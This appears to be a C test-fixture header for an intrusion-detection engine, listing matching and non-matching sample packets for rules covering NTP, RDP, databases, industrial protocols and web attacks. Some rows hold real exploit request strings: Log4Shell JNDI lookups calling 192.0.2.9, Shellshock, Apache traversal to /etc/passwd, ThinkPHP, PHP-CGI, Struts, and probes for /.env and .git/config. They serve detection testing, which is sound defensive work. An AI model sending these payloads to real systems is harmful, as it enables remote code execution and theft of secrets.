/* payload_rows_other: test packets of our own making for the payload rules of every category but iot. */
#ifndef TEST_PAYLOAD_ROWS_OTHER_H
#define TEST_PAYLOAD_ROWS_OTHER_H

#include "test/payload_row.h"

/* clang-format off */
static const struct payload_row payload_rows_other[] = {
PAYLOAD_ROW("infrastructure-ntp", UDP, 123, true,
    "\343\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
    "\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
    "\000\000\000\000\000\000")
PAYLOAD_ROW("infrastructure-ntp", UDP, 123, true,
    "\027\000\003*\000\000\000\000")
PAYLOAD_ROW("infrastructure-ntp", UDP, 123, true,
    "\026\002\000\001\000\000\000\000\000\000\000\000")
PAYLOAD_ROW("infrastructure-ntp", UDP, 123, false,
    "\344\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
    "\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
    "\000\000\000\000\000\000")
PAYLOAD_ROW("infrastructure-ntp", UDP, 123, false,
    "\027\001\003*")
PAYLOAD_ROW("infrastructure-ntp", UDP, 123, false,
    "\343\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
    "\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000")
PAYLOAD_ROW("infrastructure-ipmi", UDP, 623, true,
    "\006\000\377\007\000\000\000\000\000\000\000\000\000\011 \030\310\201\0008\216\004"
    "\265")
PAYLOAD_ROW("infrastructure-ipmi", UDP, 623, false,
    "\006\000\376\007\000\000\000\000")
PAYLOAD_ROW("infrastructure-portmap", UDP, 111, true,
    "abcd\000\000\000\000\000\000\000\002\000\001\206\240\000\000\000\002\000\000\000\004")
PAYLOAD_ROW("infrastructure-portmap", UDP, 111, false,
    "abcd\000\000\000\000\000\000\000\002\000\001\206\243\000\000\000\002")
PAYLOAD_ROW("infrastructure-rip", UDP, 520, true,
    "\001\001\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
    "\000\000\000")
PAYLOAD_ROW("infrastructure-rip", UDP, 520, false,
    "\002\001\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
    "\000\000\000")
PAYLOAD_ROW("infrastructure-smart-install", TCP, 4786, true,
    "\000\000\000\001\000\000\000\001\000\000\000\004\000\000\000\010")
PAYLOAD_ROW("infrastructure-smart-install", TCP, 4786, false,
    "\000\000\000\001\000\000\000\002\000\000\000\004")
PAYLOAD_ROW("windows-rdp", TCP, 3389, true,
    "\003\000\000'\"\340\000\000\000\000\000Cookie: mstshash=a\r\n")
PAYLOAD_ROW("windows-rdp", TCP, 3389, true,
    "\003\000\000\023\016\340\000\000\000\000\000\001\000\010\000\003\000\000\000")
PAYLOAD_ROW("windows-rdp", TCP, 3389, true,
    "\003\000\001\234\002\360\200\177e\202")
PAYLOAD_ROW("windows-rdp", TCP, 3389, false,
    "\003\000\000'\"\340\000\000\000\000\000Cookie: x\r\n")
PAYLOAD_ROW("windows-rdp", TCP, 3389, false,
    "\003\000\000\026\021\340\000\000\000\000\000\301\002\001\000\302\002\001\002\300\001"
    "\n")
PAYLOAD_ROW("windows-smb", TCP, 445, true,
    "\000\000\000T\377SMBr\000")
PAYLOAD_ROW("windows-smb", TCP, 445, true,
    "\000\000\000T\376SMB@\000")
PAYLOAD_ROW("windows-smb", TCP, 445, false,
    "\000\000\000T\375SMBr\000")
PAYLOAD_ROW("database-redis", TCP, 6379, true,
    "*1\r\n$4\r\nINFO\r\n")
PAYLOAD_ROW("database-redis", TCP, 6379, true,
    "info\r\n")
PAYLOAD_ROW("database-redis", TCP, 6379, true,
    "CONFIG SET dir /tmp\r\n")
PAYLOAD_ROW("database-redis", TCP, 6379, false,
    "*x\r\n$4\r\n")
PAYLOAD_ROW("database-redis", TCP, 6379, false,
    "informed\r\n")
PAYLOAD_ROW("database-memcached", UDP, 11211, true,
    "\000\001\000\000\000\001\000\000stats\r\n")
PAYLOAD_ROW("database-memcached", UDP, 11211, false,
    "\000\001\000\000\000\001\000\000stat\r\n")
PAYLOAD_ROW("database-memcached", TCP, 11211, true,
    "stats\r\n")
PAYLOAD_ROW("database-memcached", TCP, 11211, true,
    "set x 0 0 1\r\n")
PAYLOAD_ROW("database-memcached", TCP, 11211, false,
    "STAT pid 1\r\n")
PAYLOAD_ROW("database-postgresql", TCP, 5432, true,
    "\000\000\000\010\004\322\026/")
PAYLOAD_ROW("database-postgresql", TCP, 5432, true,
    "\000\000\000#\000\003\000\000user\000a\000")
PAYLOAD_ROW("database-postgresql", TCP, 5432, false,
    "\000\000\000\010\004\322\026.")
PAYLOAD_ROW("database-postgresql", TCP, 5432, false,
    "\000\000\000#\000\003\000\000usex\000")
PAYLOAD_ROW("database-mssql", TCP, 1433, true,
    "\022\001\000/\000\000\001\000\000\000\032\000\006")
PAYLOAD_ROW("database-mssql", TCP, 1433, false,
    "\022\002\000/\000\000\001\000\000\000\032")
PAYLOAD_ROW("database-mongodb", TCP, 27017, true,
    ":\000\000\000\001\000\000\000\000\000\000\000\324\007\000\000\000\000\000\000admin.$"
    "cmd\000")
PAYLOAD_ROW("database-mongodb", TCP, 27017, true,
    ":\000\000\000\001\000\000\000\000\000\000\000\335\007\000\000")
PAYLOAD_ROW("database-mongodb", TCP, 27017, false,
    ":\000\000\000\001\000\000\000\000\000\000\000\324\006\000\000")
PAYLOAD_ROW("database-mongodb", TCP, 27017, false,
    "\324\007\000\000")
PAYLOAD_ROW("database-elasticsearch", TCP, 9200, true,
    "GET /_cat/indices?v HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("database-elasticsearch", TCP, 9200, true,
    "GET /_search?q=a HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("database-elasticsearch", TCP, 9200, true,
    "GET /_nodes  HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("database-elasticsearch", TCP, 9200, false,
    "GET /cat/indices HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("remote-vnc", TCP, 5900, true,
    "RFB 003.008\n")
PAYLOAD_ROW("remote-vnc", TCP, 5900, false,
    "RFB 004.008\n")
PAYLOAD_ROW("remote-ard", UDP, 3283, true,
    "\000\024\000\001\003")
PAYLOAD_ROW("remote-ard", UDP, 3283, false,
    "\000\025\000\001\003")
PAYLOAD_ROW("industrial-modbus", TCP, 502, true,
    "\000\001\000\000\000\006\001\003\000\000\000\001")
PAYLOAD_ROW("industrial-modbus", TCP, 502, false,
    "\000\001\000\001\000\006\001\003\000\000\000\001")
PAYLOAD_ROW("industrial-modbus", TCP, 502, false,
    "GET / HTTP/1.1\r\n")
PAYLOAD_ROW("industrial-s7", TCP, 102, true,
    "\003\000\000\026\021\340\000\000\000\001\000\301\002\001\000\302\002\001\002\300\001"
    "\n")
PAYLOAD_ROW("industrial-s7", TCP, 102, true,
    "\003\000\000\031\002\360\2002\001")
PAYLOAD_ROW("industrial-s7", TCP, 102, false,
    "\003\000\000\026\021\320\000\000")
PAYLOAD_ROW("industrial-dnp3", TCP, 20000, true,
    "\005d\005\311\000\000\000\0006L")
PAYLOAD_ROW("industrial-dnp3", TCP, 20000, false,
    "\005e\005\311")
PAYLOAD_ROW("industrial-ethernet-ip", UDP, 44818, true,
    "c\000\000\000\000\000\000\000")
PAYLOAD_ROW("industrial-ethernet-ip", UDP, 44818, false,
    "b\000\000\000\000\000\000\000")
PAYLOAD_ROW("industrial-iec104", TCP, 2404, true,
    "h\004\007\000\000\000")
PAYLOAD_ROW("industrial-iec104", TCP, 2404, false,
    "i\004\007\000\000\000")
PAYLOAD_ROW("industrial-fox", TCP, 1911, true,
    "fox a 1 -1 fox hello\n{")
PAYLOAD_ROW("industrial-fox", TCP, 1911, false,
    "fox b 1 -1 fox hello\n{")
PAYLOAD_ROW("industrial-opcua", TCP, 4840, true,
    "HELF \000\000\000")
PAYLOAD_ROW("industrial-opcua", TCP, 4840, false,
    "HELG \000\000\000")
PAYLOAD_ROW("industrial-fins", TCP, 9600, true,
    "FINS\000\000\000\014")
PAYLOAD_ROW("industrial-fins", TCP, 9600, false,
    "FINT\000\000\000\014")
PAYLOAD_ROW("industrial-fins", UDP, 9600, true,
    "\200\000\002\000\000\000\000c\000\357\005\001\000")
PAYLOAD_ROW("industrial-fins", UDP, 9600, false,
    "\200\000\003\000\000")
PAYLOAD_ROW("voip-stun", UDP, 3478, true,
    "\000\001\000\000!\022\244Babcdefghijkl")
PAYLOAD_ROW("voip-stun", UDP, 3478, false,
    "\001\001\000\000!\022\244Babcdefghijkl")
PAYLOAD_ROW("voip-scanner", UDP, 5060, true,
    "OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nFrom: \"sipvicious\"<sip:100@1.1.1.1>\r\n")
PAYLOAD_ROW("voip-scanner", UDP, 5060, true,
    "OPTIONS sip:nm SIP/2.0\r\n")
PAYLOAD_ROW("voip-scanner", UDP, 5060, true,
    "OPTIONS sip:carol@chicago.com SIP/2.0\r\n")
PAYLOAD_ROW("voip-scanner", UDP, 5060, false,
    "OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nFrom: \"sipvirtuous\"<sip:100@1.1.1.1>\r\n")
PAYLOAD_ROW("voip-scanner", UDP, 5060, false,
    "OPTIONS sip:mn SIP/2.0\r\n")
PAYLOAD_ROW("printer-ipp", TCP, 631, true,
    "POST /ipp/print HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("printer-ipp", TCP, 631, true,
    "POST /x HTTP/1.1\r\nContent-Type: application/ipp\r\n\r\n")
PAYLOAD_ROW("printer-ipp", TCP, 631, false,
    "GET /ipp/ HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("printer-ipp", TCP, 631, false,
    "HTTP/1.1 200 OK\r\nContent-Type: application/ipp\r\n")
PAYLOAD_ROW("printer-ipp", UDP, 631, true,
    "0 3 http://192.0.2.9:8080/printers/x \"a\" \"b\"")
PAYLOAD_ROW("printer-ipp", UDP, 631, false,
    "0 3 file:///x")
PAYLOAD_ROW("printer-raw", TCP, 9100, true,
    "\033%-12345X@PJL INFO ID\r\n")
PAYLOAD_ROW("printer-raw", TCP, 9100, true,
    "@PJL INFO STATUS\r\n")
PAYLOAD_ROW("printer-raw", TCP, 9100, false,
    "%-12345X\r\n")
PAYLOAD_ROW("printer-raw", TCP, 9100, false,
    "hello")
PAYLOAD_ROW("file-tftp", UDP, 69, true,
    "\000\001masscan-test\000netascii\000")
PAYLOAD_ROW("file-tftp", UDP, 69, false,
    "\000\003masscan-test\000netascii\000")
PAYLOAD_ROW("game-source", UDP, 27015, true,
    "\377\377\377\377TSource Engine Query\000")
PAYLOAD_ROW("game-source", UDP, 27015, false,
    "\377\377\377\376TSource Engine Query\000")
PAYLOAD_ROW("vpn-openvpn", UDP, 1194, true,
    "8ABCDEFGH\000\000\000\000\000")
PAYLOAD_ROW("vpn-openvpn", UDP, 1194, false,
    "9ABCDEFGH\000\000\000\000\000")
PAYLOAD_ROW("vpn-l2tp", UDP, 1701, true,
    "\310\002\000<\000\000\000\000\000\000\000\000")
PAYLOAD_ROW("vpn-l2tp", UDP, 1701, false,
    "\310\003\000<\000\000\000\000\000\000\000\000")
PAYLOAD_ROW("windows-directory", UDP, 389, true,
    "0%\002\001\001c \004\000\n\001\000")
PAYLOAD_ROW("windows-directory", UDP, 389, false,
    "0%\002\001\001d \004\000")
PAYLOAD_ROW("crypto-ethereum", TCP, 8545, true,
    "{\"jsonrpc\":\"2.0\",\"method\":\"eth_blockNumber\",\"id\":1}")
PAYLOAD_ROW("crypto-ethereum", TCP, 8545, false,
    "{\"jsonrpc\":\"2.0\",\"method\":\"ethblockNumber\",\"id\":1}")
PAYLOAD_ROW("crypto-mining", TCP, 3333, true,
    "{\"id\":1,\"method\":\"mining.subscribe\"}")
PAYLOAD_ROW("crypto-mining", TCP, 3333, false,
    "{\"id\":1,\"method\":\"mining.subscribed\"}")
PAYLOAD_ROW("proxy-http", TCP, 3128, true,
    "CONNECT 192.0.2.9:443 HTTP/1.1\r\n\r\n")
PAYLOAD_ROW("proxy-http", TCP, 3128, false,
    "CONNECT 192.0.2.9 HTTP/1.1\r\n\r\n")
PAYLOAD_ROW("proxy-socks", TCP, 1080, true,
    "\005\001\000")
PAYLOAD_ROW("proxy-socks", TCP, 1080, true,
    "\004\001\000P\300\000\002\001\000")
PAYLOAD_ROW("proxy-socks", TCP, 1080, false,
    "\005\005\000")
PAYLOAD_ROW("proxy-socks", TCP, 1080, false,
    "\004\002\000P\300\000\002\001\000")
PAYLOAD_ROW("container-docker", TCP, 2375, true,
    "GET /v1.24/containers/json HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("container-docker", TCP, 2375, false,
    "GET /v1.24/volumes HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-log4shell", TCP, 8080, true,
    "GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.9/a}\r\n")
PAYLOAD_ROW("web-log4shell", TCP, 8080, true,
    "GET /?q=%24%7Bjndi%3Aldap%3A//192.0.2.9/a%7D HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-log4shell", TCP, 8080, true,
    "GET / HTTP/1.1\r\nX: ${${::-j}ndi:rmi://a}\r\n")
PAYLOAD_ROW("web-log4shell", TCP, 8080, true,
    "GET / HTTP/1.1\r\nX: ${jn${env::-}di:")
PAYLOAD_ROW("web-log4shell", TCP, 8080, false,
    "GET / HTTP/1.1\r\nUser-Agent: ${jnd:ldap://192.0.2.9/a}\r\n")
PAYLOAD_ROW("web-log4shell", TCP, 8080, false,
    "x=${a}${b}")
PAYLOAD_ROW("web-apache-traversal", TCP, 80, true,
    "GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-apache-traversal", TCP, 80, true,
    "GET /icons/%%32%65%%32%65/etc/passwd HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-apache-traversal", TCP, 80, false,
    "GET /cgi-bin/../bin/sh HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-apache-traversal", TCP, 80, false,
    "GET /a%2eb/ HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-secrets", TCP, 80, true,
    "GET /.env HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-secrets", TCP, 80, true,
    "GET /a/.git/config HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-secrets", TCP, 80, false,
    "GET /env HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-secrets", TCP, 80, false,
    "GET /.gitx/config HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-phpunit", TCP, 80, true,
    "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: 192.0.2.1"
    "\r\n\r\n")
PAYLOAD_ROW("web-phpunit", TCP, 80, false,
    "POST /eval-stdin.txt HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-thinkphp", TCP, 80, true,
    "GET /?s=/Index/x/invokefunction&function=call_user_func_array&vars[0]=md5 HTTP/1.1\r"
    "\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-thinkphp", TCP, 80, false,
    "GET /?s=/Index/x/invokefunction&func=f HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-thinkphp", TCP, 80, false,
    "GET /?function=call_user_func_array HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-php-cgi", TCP, 80, true,
    "POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1 HTTP/1.1\r\nHost: 192.0.2.1\r\n"
    "\r\n")
PAYLOAD_ROW("web-php-cgi", TCP, 80, false,
    "POST /x?%ADd+allow_url HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-struts", TCP, 8080, true,
    "GET / HTTP/1.1\r\nContent-Type: %{(#_memberAccess)}\r\n")
PAYLOAD_ROW("web-struts", TCP, 8080, false,
    "GET / HTTP/1.1\r\nContent-Type: {(#x)}\r\n")
PAYLOAD_ROW("web-shellshock", TCP, 80, true,
    "GET /cgi-bin/test HTTP/1.1\r\nUser-Agent: () { :; }; /bin/id\r\n")
PAYLOAD_ROW("web-shellshock", TCP, 80, false,
    "GET /cgi-bin/test HTTP/1.1\r\nUser-Agent: ( { :; }; /bin/id\r\n")
PAYLOAD_ROW("web-shellshock", TCP, 80, false,
    "User-Agent: () { :; }; /bin/id\r\n")
PAYLOAD_ROW("web-scanner", TCP, 80, true,
    "GET / HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n")
PAYLOAD_ROW("web-scanner", TCP, 80, true,
    "GET / HTTP/1.0\r\nUser-Agent: masscan/1.3\r\n")
PAYLOAD_ROW("web-scanner", TCP, 80, true,
    "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https:"
    "//nmap.org/book/nse.html)\r\n")
PAYLOAD_ROW("web-scanner", TCP, 80, false,
    "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n")
PAYLOAD_ROW("web-scanner", TCP, 80, false,
    "GET /zgrab HTTP/1.1\r\n")
};
/* clang-format on */

#endif
